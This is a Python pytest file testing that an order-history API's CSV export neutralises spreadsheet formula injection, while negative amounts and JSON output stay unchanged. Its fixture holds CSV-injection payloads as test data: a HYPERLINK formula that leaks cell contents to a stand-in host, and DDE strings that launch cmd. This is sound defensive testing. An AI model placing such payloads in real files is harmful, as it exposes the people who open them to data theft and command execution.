"""The API's CSV export of the order history neutralises formula cells (OWASP
CSV injection) and leaves ordinary values, negative amounts included, as they are."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from decimal import Decimal
from typing import Any

import pytest

from malote.api.tests.helpers import ORDERS
from malote.conftest import ApiClient
from malote.orders.export import COLUMNS
from malote.orders.models import Order

pytestmark = pytest.mark.django_db

HOSTILE = {
    "customer_name": '=HYPERLINK("http://evil.example/?d="&A1,"Clique")',
    "external_id": "@SUM(1+1)*cmd|' /C calc'!A0",
    "customer_email": "+cmd|' /C calc'!A0",
    "customer_document": "-2+3",
}


def _rows(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, getattr(response, "content", b"")[:300]
    text = b"".join(response.streaming_content).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == COLUMNS
    return [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]]


@pytest.fixture
def hostile_order(make_order: Callable[..., Order]) -> Order:
    order = make_order()
    Order.objects.filter(pk=order.pk).update(**HOSTILE, discount=Decimal("-10.00"))
    return order


@pytest.fixture
def plain_order(make_order: Callable[..., Order]) -> Order:
    return make_order(placed_at="2020-01-01T10:00:00-03:00")  # first in the export


# The back office's billing exports (CSV and XLSX, other columns): see
# malote/backoffice/tests/test_billing_export.py.
def test_formula_cells_are_neutralised(api: ApiClient, plain_order: Order, hostile_order: Order) -> None:
    plain, hostile = _rows(api.get(f"{ORDERS}/export?format=csv"))
    for column, payload in HOSTILE.items():
        assert hostile[column] == "'" + payload, column
    assert all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in hostile.values() if cell != "-10.00"
    )
    assert hostile["discount"] == "-10.00"  # a Decimal Malote stores, not text: still a number
    # The ordinary order comes out exactly as stored.
    assert plain["customer_name"] == plain_order.customer_name == "Maria Souza"
    assert plain["external_id"] == plain_order.external_id
    assert plain["customer_email"] == "maria@example.com"
    assert (plain["subtotal"], plain["discount"], plain["total"]) == ("99.80", "0.00", "114.80")


def test_the_json_export_carries_values_unchanged(api: ApiClient, hostile_order: Order) -> None:
    response = api.get(f"{ORDERS}/export?format=json")
    [row] = json.loads(b"".join(response.streaming_content))
    assert row["customer_name"] == HOSTILE["customer_name"]
